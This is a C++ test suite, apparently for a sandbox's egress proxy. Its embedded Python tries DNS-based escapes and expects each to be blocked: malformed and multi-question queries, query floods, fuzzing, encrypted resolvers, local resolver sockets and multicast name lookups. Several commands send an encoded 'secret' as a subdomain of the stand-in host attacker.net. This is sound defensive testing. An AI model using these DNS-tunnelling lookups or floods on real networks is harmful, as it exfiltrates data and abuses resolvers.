// The attack: the DNS doors themselves. Queries of shapes that a careless reader takes for another
// question, floods, resolvers that do not speak to port 53, services of the machine that would look
// a name up for the command. What must stop it: one reader that refuses what it cannot read in one
// way (egress-proxy/dns_wire), limits, no route for other protocols (firewall), and a file system
// in which the machine's sockets are not there (credential-mask).
#include "attack/attack.hpp"

namespace awf::attack {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

using DnsDoorsAttack = Attack;

INSTANTIATE_TEST_SUITE_P(Callers, DnsDoorsAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

// Python: name(b'a', b'b'), query(...) and ask(bytes), which returns the reply or None.
constexpr const char* kDns = R"(
import os, random, socket, struct, sys, time
def name(*labels): return b''.join(bytes([len(l)]) + l for l in labels) + b'\0'
def question(n, kind=1, klass=1): return n + struct.pack('!HH', kind, klass)
def query(*questions, flags=0x0100, extra=b'', additional=0):
    return struct.pack('!HHHHHH', 0x1234, flags, len(questions), 0, 0, additional) + b''.join(questions) + extra
def ask(data, server='9.9.9.9', wait=3):
    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(wait)
    s.sendto(data, (server, 53))
    try: return s.recv(65535)
    except OSError: return None
def code(reply): return 'none' if reply is None else str(reply[3] & 15) + '/' + str(struct.unpack('!H', reply[6:8])[0])
allowed, denied = name(b'example', b'org'), name(b'c2VjcmV0', b'attacker', b'net')
def stream(data):
    s = socket.create_connection(('9.9.9.9', 53), 5)
    s.settimeout(5)
    for piece in data: s.sendall(piece)
    return s
def framed(data): return struct.pack('!H', len(data)) + data
def replies(s, count):
    out, buffer = [], b''
    while len(out) < count:
        piece = s.recv(65535)
        if not piece: break
        buffer += piece
        while len(buffer) >= 2 and len(buffer) >= 2 + struct.unpack('!H', buffer[:2])[0]:
            size = struct.unpack('!H', buffer[:2])[0]
            out.append(buffer[2:2 + size]); buffer = buffer[2 + size:]
    return out
)";

TEST_P(DnsDoorsAttack, DNS_05_two_questions_in_one_query_get_an_error_and_nothing_leaves) {
  const auto result = run_python(std::string(kDns) + R"(
print('udp', code(ask(query(question(allowed), question(denied)))))
print('udp', code(ask(query(question(denied), question(allowed)), '2620:fe::fe')))
s = stream([framed(query(question(allowed), question(denied)))])
print('tcp', code(replies(s, 1)[0]))
)");
  EXPECT_EQ(result.output, "udp 1/0\nudp 1/0\ntcp 1/0\n") << result;
  EXPECT_THAT(world.packets(), IsEmpty());
}

// The second of two messages in one segment, and one that comes byte by byte.
TEST_P(DnsDoorsAttack, DNS_02_each_of_several_messages_in_a_stream_is_judged) {
  const auto result = run_python(std::string(kDns) + R"(
both = framed(query(question(allowed))) + framed(query(question(denied))) + framed(query(question(allowed, 28)))
for pieces in ([both], [bytes([b]) for b in both], [both[:1], both[1:40], both[40:]]):
    print(*[code(r) for r in replies(stream(pieces), 3)])
)");
  EXPECT_EQ(result.output, "0/1 3/0 0/1\n0/1 3/0 0/1\n0/1 3/0 0/1\n") << result;
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsDoorsAttack, DNS_10_other_types_classes_and_opcodes_are_answered_here) {
  const auto result = run_python(std::string(kDns) + R"(
for kind in list(range(1, 300)) + [32768, 32769, 65280, 65535]:
    r = ask(query(question(denied, kind)))
    if kind not in (41, 249, 250, 251, 252) and code(r) != '3/0': print('denied', kind, code(r))
    r = ask(query(question(allowed, kind)))
    if kind not in (1, 28, 41, 249, 250, 251, 252, 255) and code(r) != '0/0': print('allowed', kind, code(r))
print('classes', *[code(ask(query(question(denied, 16, klass)))) for klass in (2, 3, 4, 254, 255)])
print('opcodes', *[code(ask(query(question(denied), flags=op << 11))) for op in (1, 2, 4, 5, 6)])
cookie = b'\0' + struct.pack('!HHIH', 41, 4096, 0, 36) + struct.pack('!HH', 10, 8) + b'c2VjcmV0' + struct.pack('!HH', 12, 20) + b's' * 20
r = ask(query(question(denied), extra=cookie, additional=1))
print('edns', code(r), b'c2VjcmV0' in r[12 + len(question(denied)):])
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("classes 5/0 5/0 5/0 5/0 5/0\nopcodes 4/0 4/0 4/0 4/0 4/0\n"
                                       "edns 3/0 False\n"));
  EXPECT_THAT(result.output, Not(HasSubstr("denied"))) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("allowed"))) << result;
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Each would be an allowed name to a reader that stops early, decodes, or compares suffixes.
TEST_P(DnsDoorsAttack, DNS_16_names_with_two_readings_are_nobody_s) {
  const auto result = run_python(std::string(kDns) + R"(
odd = [name(b'example.org\0.attacker', b'net'), name(b'x\0', b'example', b'org'), name(b'a\r\nb', b'example', b'org'),
       name(b'a b', b'example', b'org'), name(b'a%2eb', b'example', b'org'), name(b'evil.net\\', b'example', b'org'),
       name(b'example.org'), name(b'-a', b'example', b'org'), name('ex\u00e4mple'.encode(), b'example', b'org'),
       name(b'xn--xample-9uf', b'org'), name(*[b'a' * 63] * 4, b'example', b'org')]
for n in odd: print(code(ask(query(question(n)), wait=1)))
print(code(ask(query(question(name(b'_service', b'example', b'org'))))), code(ask(query(question(name(b'EXAMPLE', b'OrG'))))))
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_EQ(result.output.substr(result.output.rfind("0/1 ")), "0/1 0/1\n") << result;
  std::istringstream lines(result.output);
  std::string line;
  for (int i = 0; i < 11 && std::getline(lines, line); ++i)
    EXPECT_THAT(line, testing::AnyOf("3/0", "1/0", "none")) << i;
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsDoorsAttack, DNS_17_20_000_broken_messages_leave_the_door_as_it_was) {
  const auto result = run_python(std::string(kDns) + R"(
random.seed(20261124)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
loop = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + b'\xc0\x0c\0\1\0\1'
beyond = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + b'\xc3\xff\0\1\0\1'
for data in (loop, beyond, b'', b'x', query(question(allowed))[:-1], query(question(allowed), flags=0x8180), b'\0' * 4096, os.urandom(9000)):
    s.sendto(data, ('9.9.9.9', 53))
good = bytearray(query(question(allowed)))
for i in range(20000):
    data = bytearray(os.urandom(random.randrange(0, 80))) if i % 2 else bytearray(good)
    if not i % 2: data[random.randrange(len(data))] = random.randrange(256)
    s.sendto(data, ('9.9.9.9', 53))
time.sleep(1.2)  # the second of the rate limit
print(code(ask(query(question(allowed)), wait=10)))
)");
  EXPECT_EQ(result.output, "0/1\n") << result;
  EXPECT_THAT(result.errors, Not(HasSubstr("egress proxy ended")));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsDoorsAttack, DNS_18_no_answer_is_much_larger_than_its_question) {
  const auto result = run_python(std::string(kDns) + R"(
opt = b'\0' + struct.pack('!HHIH', 41, 4096, 0, 0)
worst = 0
for n in (allowed, denied, name(*[b'a' * 60] * 3, b'example', b'org'), name(b'1', b'0', b'0', b'127', b'in-addr', b'arpa')):
    for kind in (1, 28, 16, 12, 255, 65):
        for extra, count in ((b'', 0), (opt, 1)):
            q = query(question(n, kind), extra=extra, additional=count)
            worst = max(worst, len(ask(q)) - len(q))
print(worst <= 384, worst)
)");
  EXPECT_THAT(result.output, testing::StartsWith("True")) << result;
}

// A flood costs the machine no more than the limit of queries a second, and the sandbox itself its
// answers; afterwards all is as before.
TEST_P(DnsDoorsAttack, DNS_09_DNS_18_a_flood_is_bounded_and_passes) {
  const auto result = run_python(std::string(kDns) + R"(
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
end = time.time() + 3
sent = 0
while time.time() < end:
    try: s.sendto(query(question(name(b'n%d' % sent, b'attacker', b'net'))), ('9.9.9.9', 53)); sent += 1
    except BlockingIOError: pass
print('sent', sent)
held = []
for i in range(600):
    try: held.append(socket.create_connection(('9.9.9.9', 53), 1))
    except OSError: break
for c in held: c.close()
time.sleep(1.2)
print('after', code(ask(query(question(allowed)), wait=10)), code(replies(stream([framed(query(question(allowed)))]), 1)[0]))
)");
  EXPECT_THAT(result.output, HasSubstr("after 0/1 0/1\n")) << result;
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsDoorsAttack, DNS_07_encrypted_resolvers_are_closed_like_everything_else) {
  const auto result = run_python(std::string(kPrelude) + R"(
import subprocess
for address in ('9.9.9.9', '1.1.1.1', '2620:fe::fe'):
    try_tcp(address, 853)
# A mapped address takes the connection and resets it, once its port is judged.
try: print('dot', 'ANSWERED' if socket.create_connection(('example.org', 853), 5).recv(100) else 'closed')
except OSError: print('dot reset')
for address in ('9.9.9.9', '2620:fe::fe', socket.gethostbyname('example.org')):
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    for port in (853, 784, 8853, 443):
        try: s.sendto(b'\xc3' + b'q' * 1199, (address, port))
        except OSError: pass
for url in ('https://1.1.1.1/dns-query', 'https://dns.google/dns-query', 'https://8.8.8.8/dns-query'):
    for options in ((), ('--noproxy', '*')):
        r = subprocess.run(['curl', '-sSk', '-m', '5', *options, '-d', 'x', '-H', 'Content-Type: application/dns-message', url], capture_output=True)
        print('doh', 'ANSWERED' if r.returncode == 0 else 'refused')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("CONNECTED")));
  EXPECT_THAT(result.output, Not(HasSubstr("ANSWERED")));
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Servers that stand for nscd, systemd-resolved (varlink and D-Bus) and Avahi listen on the
// machine, and would say so; and names are shouted into the local network.
TEST_P(DnsDoorsAttack, DNS_08_DNS_22_no_service_of_the_machine_looks_a_name_up_for_the_command) {
  auto services = world.spawn_in_machine(
      {"/usr/bin/python3", "-u", "-c",
       "import os, selectors, socket\n"
       "s = selectors.DefaultSelector()\n"
       "for p in ('/run/nscd/socket', '/run/systemd/resolve/io.systemd.Resolve', "
       "'/run/dbus/system_bus_socket', '/run/avahi-daemon/socket', '/run/nslcd/socket'):\n"
       "    os.makedirs(os.path.dirname(p), exist_ok=True)\n"
       "    u = socket.socket(socket.AF_UNIX); u.bind(p); os.chmod(p, 0o777); u.listen(5)\n"
       "    s.register(u, 1, p)\n"
       "print('up')\n"
       "while True:\n"
       "    for k, _ in s.select():\n"
       "        c = k.fileobj.accept()[0]; c.settimeout(0.2)\n"
       "        try: print('ASKED', k.data, c.recv(200))\n"
       "        except OSError: print('ASKED', k.data)\n"});
  ASSERT_TRUE(services.wait_for_output("up")) << services.errors();
  const auto result = run_python(std::string(kPrelude) + R"(
for path in ('/run/nscd/socket', '/var/run/nscd/socket', '/run/systemd/resolve/io.systemd.Resolve',
             '/run/dbus/system_bus_socket', '/run/avahi-daemon/socket', '/run/nslcd/socket'):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(path); print('CONNECTED', path)
    except OSError as e: pass
try: print('found', socket.getaddrinfo('c2VjcmV0.attacker.net', 443))
except socket.gaierror as e: print('unknown')
payload = b'\0\0\1\0\0\1\0\0\0\0\0\0\x08c2VjcmV0\x05local\0\0\1\0\1'
for address, port in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('255.255.255.255', 137), ('20.55.0.255', 137),
                      ('ff02::fb', 5353), ('ff02::1:3', 5355)):
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    if ':' not in address: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try: s.sendto(payload, (address, port))
    except OSError: pass
import subprocess
for tool in (['resolvectl', 'query', 'c2VjcmV0.attacker.net'], ['nmblookup', 'c2VjcmV0'], ['avahi-resolve', '-n', 'c2VjcmV0.local']):
    try: subprocess.run(tool, timeout=10, capture_output=True)
    except (OSError, subprocess.TimeoutExpired): pass
)");
  EXPECT_EQ(result.output, "unknown\n") << result;
  // An allowed name is looked up anew by the proxy, and at the DNS server, not at such a service.
  const auto allowed = run_shell("curl -fsS https://example.org");
  EXPECT_EQ(allowed.output, "hello from example.org\n") << allowed;
  // awf itself asks for its caller's user and groups; nobody for a host.
  EXPECT_FALSE(services.wait_for_output("c2VjcmV0", std::chrono::milliseconds(100)));
  EXPECT_THAT(services.output(), Not(HasSubstr("example.org")));
  EXPECT_THAT(world.dns_queries(), testing::ElementsAre("A example.org", "AAAA example.org"));
  EXPECT_THAT(world.packets_to_others({"93.184.216.34", "2606:2800:220:1::1"}), IsEmpty());
}

// Whatever else is asked of awf, a denied name is forwarded to nobody.
TEST_P(DnsDoorsAttack, DNS_24_no_combination_of_options_forwards_a_denied_lookup) {
  const std::vector<std::vector<std::string>> combinations{
      {},
      {"--log-level", "debug", "--audit-dir", test_world::kAuditDirectory},
      {"--dns-servers", "9.9.9.9"},
      {"--dns-over-https", "https://8.8.8.8/dns-query"},
      {"--upstream-proxy", "http://20.70.0.1"},
      {"--allow-private-addresses", "10.0.0.0/8", "--dns-servers", "9.9.9.9,2620:fe::fe"},
      {"--block-domains", "attacker.net", "--log-level", "debug"}};
  const std::string line =
      "getent ahosts c2VjcmV0.attacker.net; dig +tries=1 +time=3 c2VjcmV0.attacker.net TXT >&2; "
      "curl -sS -m 5 https://c2VjcmV0.attacker.net; curl -sS -m 5 --noproxy '*' "
      "http://c2VjcmV0.attacker.net; echo end";
  for (const auto& more : combinations) {
    std::vector<std::string> arguments{"--allow-domains", "example.org"};
    arguments.insert(arguments.end(), more.begin(), more.end());
    arguments.insert(arguments.end(), {"--", line});
    const auto result = run(arguments);
    EXPECT_EQ(result.exit_code, 0) << result;
    EXPECT_THAT(world.dns_queries(), IsEmpty());
    EXPECT_THAT(world.packets(), IsEmpty()) << testing::PrintToString(more);
  }
}

}  // namespace
}  // namespace awf::attack
